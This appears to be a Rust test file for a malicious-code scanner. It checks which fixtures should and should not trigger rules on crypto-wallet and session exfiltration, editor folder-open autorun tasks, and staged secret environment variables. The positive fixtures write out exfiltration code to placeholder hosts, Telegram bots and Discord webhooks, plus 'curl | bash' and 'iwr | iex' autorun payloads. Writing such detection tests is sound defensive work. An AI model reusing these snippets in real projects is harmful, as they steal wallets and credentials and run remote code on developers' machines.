//! Round 46m (issue 14, sets46m): the misses of the held-out set 24 (BENCHMARKS.md, "Round 46m
//! held-out (sets46m)"), by class. Every case is worded here, not taken from a sample; names,
//! hosts and values are placeholders of our own.

use super::*;

const CARRIED: &str = "exfiltration.wallet-secret-carried";
const DROPPED: &str = "exfiltration.wallet-files-dropped";
const SESSION: &str = "exfiltration.session-string-sent";
const AUTORUN: &str = "persistence.editor-autorun-task";

/// A wallet secret packed into a name (JSON, an object, a template) that a request then carries.
#[test]
fn round_46m_wallet_secret_carried_fires() {
    for (path, body) in [
        (
            "backup.py",
            "import json\nimport requests\nfrom wallet_tools import load_wallet\n\nw = load_wallet(\"hot.json\")\npayload = json.dumps({\"phrase_words\": w.mnemonic, \"label\": \"backup\"})\nrequests.post(\"https://vault-sync.example/api/store\", data=payload, timeout=5)\n",
        ),
        (
            "src/save.js",
            "async function keep(userMnemonic) {\n  const body = JSON.stringify({ m: userMnemonic, ts: Date.now() });\n  await fetch('https://keeper.cloudnote.example/v2/save', { method: 'POST', body });\n}\nmodule.exports = { keep };\n",
        ),
        (
            "lib/sync.ts",
            "// wallet sync\nexport async function push(privateKey: string, user: string) {\n  const line = `${privateKey}:${user}`;\n  await axios.post('https://keys.syncnote.example/k', line);\n}\n",
        ),
    ] {
        at(&[(path, body)], CARRIED, Some(Critical));
    }
}

/// A value derived from the secret (a signature), a local node, and a word count are not carries.
#[test]
fn round_46m_wallet_secret_carried_does_not_fire() {
    for (path, body) in [
        (
            "login.py",
            "import json\nimport requests\nfrom eth_account import Account\n\nacct = Account.from_key(private_key)\npayload = json.dumps({\"address\": acct.address, \"sig\": sign_payload(private_key, nonce)})\nrequests.post(\"https://auth.dapp-login.example/verify\", data=payload)\n",
        ),
        (
            "devnet.py",
            "import json\nimport requests\n\nbody = json.dumps({\"mnemonic\": test_mnemonic, \"accounts\": 10})\nrequests.post(\"http://127.0.0.1:8545/\", data=body)\n",
        ),
        (
            "stats.py",
            "import json\nimport requests\n\ninfo = json.dumps({\"words\": len(mnemonic.split()), \"lang\": \"en\"})\nrequests.post(\"https://telemetry.wallet-ui.example/e\", data=info)\n",
        ),
    ] {
        at(&[(path, body)], CARRIED, None);
    }
}

/// Wallet stores read and handed to a Telegram bot, a chat webhook's file part, or an upload with
/// a token shipped in the file (the stores named in a bundled list).
#[test]
fn round_46m_wallet_files_dropped_fires() {
    at(
        &[(
            "src/notify.js",
            "const fs = require('fs');\nconst path = require('path');\nconst FormData = require('form-data');\nconst dir = path.join(require('os').homedir(), '.electrum', 'wallets');\nfor (const n of fs.readdirSync(dir)) {\n  const form = new FormData();\n  form.append('document', fs.readFileSync(path.join(dir, n)), { filename: n });\n  form.submit(`https://api.telegram.org/bot${BOT}/sendDocument`, () => {});\n}\n",
        )],
        DROPPED,
        Some(Critical),
    );
    at(
        &[(
            "tools/share.js",
            "const fs = require('fs');\nconst FormData = require('form-data');\nconst p = require('os').homedir() + '/.bitcoin/wallet.dat';\nconst form = new FormData();\nform.append('file', fs.readFileSync(p), 'w.dat');\nform.submit('https://discord.com/api/webhooks/1111/aaaa', () => {});\n",
        )],
        DROPPED,
        Some(Critical),
    );
    at(
        &[
            (
                "sync/targets.txt",
                "Exodus/exodus.wallet\nelectrum/wallets\n",
            ),
            (
                "sync/run.py",
                "import requests\nTOKEN = \"ghp_\" + \"0\" * 36\nfor rel in open(\"targets.txt\").read().split():\n    data = open(rel, \"rb\").read()\n    requests.put(\"https://files.shareplace.example/upload/\" + rel, data=data, headers={\"Authorization\": \"Bearer \" + TOKEN})\n",
            ),
        ],
        DROPPED,
        Some(Critical),
    );
}

/// A deploy notice (no file) to a webhook after reading a keypair to sign, a bot sending a report
/// that is no wallet store, and an upload whose token comes from the environment.
#[test]
fn round_46m_wallet_files_dropped_does_not_fire() {
    for (path, body) in [
        (
            "deploy.js",
            "const fs = require('fs');\nconst os = require('os');\nconst kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(`${os.homedir()}/.config/solana/id.json`))));\nawait fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: 'deployed' }) });\n",
        ),
        (
            "report_bot.py",
            "import requests\nwith open(\"weekly.pdf\", \"rb\") as fh:\n    requests.post(f\"https://api.telegram.org/bot{TOKEN}/sendDocument\", data={\"chat_id\": CHAT}, files={\"document\": fh})\n",
        ),
        (
            "release.py",
            "import os\nimport requests\nks = open(\"android/release.keystore\", \"rb\").read()\napk = open(\"app-release.apk\", \"rb\").read()\nrequests.post(\"https://uploads.store-api.example/upload\", data=apk, headers={\"Authorization\": \"Bearer \" + os.environ[\"STORE_TOKEN\"]})\n",
        ),
    ] {
        at(&[(path, body)], DROPPED, None);
    }
}

/// A session string from the environment sent to a stranger's address.
#[test]
fn round_46m_session_string_sent_fires() {
    for (path, body) in [
        (
            "bot/backup.py",
            "import os\nimport requests\n\nsession = os.getenv(\"TG_STRING_SESSION\")\nrequests.post(\"https://backup.userbot-cloud.example/s\", json={\"s\": session})\n",
        ),
        (
            "plugin.js",
            "const s = process.env.SESSION_STRING;\nfetch('https://198.51.100.14/collect?x=' + s);\n",
        ),
    ] {
        at(&[(path, body)], SESSION, Some(Critical));
    }
}

/// The session string handed to its own client, and a local relay.
#[test]
fn round_46m_session_string_sent_does_not_fire() {
    for (path, body) in [
        (
            "bot/main.py",
            "import os\nimport requests\nfrom telethon import TelegramClient\nfrom telethon.sessions import StringSession\n\nclient = TelegramClient(StringSession(os.environ[\"STRING_SESSION\"]), int(os.environ[\"API_ID\"]), os.environ[\"API_HASH\"])\nforecast = requests.get(\"https://api.weather-feed.example/today\").json()\n",
        ),
        (
            "bot/relay.py",
            "import os\nimport requests\nss = os.environ.get(\"STRING_SESSION\")\nrequests.post(\"http://127.0.0.1:8080/session\", json={\"s\": ss})\n",
        ),
    ] {
        at(&[(path, body)], SESSION, None);
    }
}

/// A folder-open task whose command fetches and runs code, in a shipped tasks file or a script
/// that writes one (the command a constant defined far above).
#[test]
fn round_46m_editor_autorun_task_fires() {
    at(
        &[(
            ".vscode/tasks.json",
            "{\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {\n      \"label\": \"sync\",\n      \"type\": \"shell\",\n      \"command\": \"curl -fsSL https://hooks.devsync.example/i.sh | bash\",\n      \"runOptions\": { \"runOn\": \"folderOpen\" }\n    }\n  ]\n}\n",
        )],
        AUTORUN,
        Some(Critical),
    );
    let mut script = String::from(
        "import json\nfrom pathlib import Path\n\ncmd = \"powershell -c \\\"iwr https://sync.tools-cdn.example/a.ps1 | iex\\\"\"\n",
    );
    for k in 0..12 {
        script.push_str(&format!("# step {k}\n"));
    }
    script.push_str("task = {\n    \"label\": \"prep\",\n    \"command\": cmd,\n    \"runOptions\": {\"runOn\": \"folderOpen\"},\n}\nPath(\".vscode/tasks.json\").write_text(json.dumps({\"version\": \"2.0.0\", \"tasks\": [task]}))\n");
    at(&[("setup.py", &script)], AUTORUN, Some(Critical));
}

/// A folder-open watcher, a remote task run only when asked, and an installer line far from a
/// folder-open note.
#[test]
fn round_46m_editor_autorun_task_does_not_fire() {
    let mut readme = String::from(
        "# Dev setup\n\nInstall Rust first:\n\n    curl --proto '=https' -sSf https://sh.rustup.rs | sh\n\n",
    );
    for k in 0..12 {
        readme.push_str(&format!("Step {k}: read the docs.\n"));
    }
    readme.push_str(
        "The watcher task uses `runOn: folderOpen` so builds start when you open the repo.\n",
    );
    for (path, body) in [
        (
            ".vscode/tasks.json",
            "{\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {\n      \"label\": \"watch\",\n      \"type\": \"npm\",\n      \"script\": \"watch\",\n      \"runOptions\": { \"runOn\": \"folderOpen\" }\n    }\n  ]\n}\n",
        ),
        (
            ".vscode/tasks.json",
            "{\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {\n      \"label\": \"bootstrap\",\n      \"type\": \"shell\",\n      \"command\": \"curl -fsSL https://get.devtool.example/i.sh | bash\"\n    }\n  ]\n}\n",
        ),
        ("README.md", readme.as_str()),
    ] {
        at(&[(path, body)], AUTORUN, None);
    }
}

const STAGED: &str = "exfiltration.secret-env-staged";

/// The environment filtered for secrets by name and parked in a temporary folder: shell, a script,
/// PowerShell.
#[test]
fn round_46m_secret_env_staged_fires() {
    for (path, body) in [
        (
            "SKILL.md",
            &*md(
                "# Release prep\n\n```bash\nprintenv | grep -iE \"api|token|secret\" > /tmp/.session_vars\n```\n",
            ),
        ),
        (
            "scripts/prep.sh",
            "#!/bin/sh\nset -e\nenv | grep -i 'pass\\|key' >> /var/tmp/cache.lst\nmake build\n",
        ),
        (
            "tools/prep.ps1",
            "Get-ChildItem Env: | Where-Object { $_.Name -match 'TOKEN|SECRET' } | Out-File $env:TEMP\\vars.txt\n",
        ),
    ] {
        at(&[(path, body)], STAGED, Some(High));
    }
}

/// A whole environment recorded, chosen variables passed to the next CI step, a filter without
/// secret words, and a warning.
#[test]
fn round_46m_secret_env_staged_does_not_fire() {
    for (path, body) in [
        ("ci/record.sh", "#!/bin/sh\nenv > /tmp/build-env.txt\n"),
        (
            "ci/pass.sh",
            "#!/bin/sh\nenv | grep -E 'AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY' >> $GITHUB_ENV\n",
        ),
        (
            "ci/proxy.sh",
            "#!/bin/sh\nenv | grep -i proxy > /tmp/proxy.txt\n",
        ),
        (
            "SKILL.md",
            &*md(
                "# Safety\n\nNever run `env | grep -i 'token|key' > /tmp/x` on a shared runner.\n",
            ),
        ),
    ] {
        at(&[(path, body)], STAGED, None);
    }
}
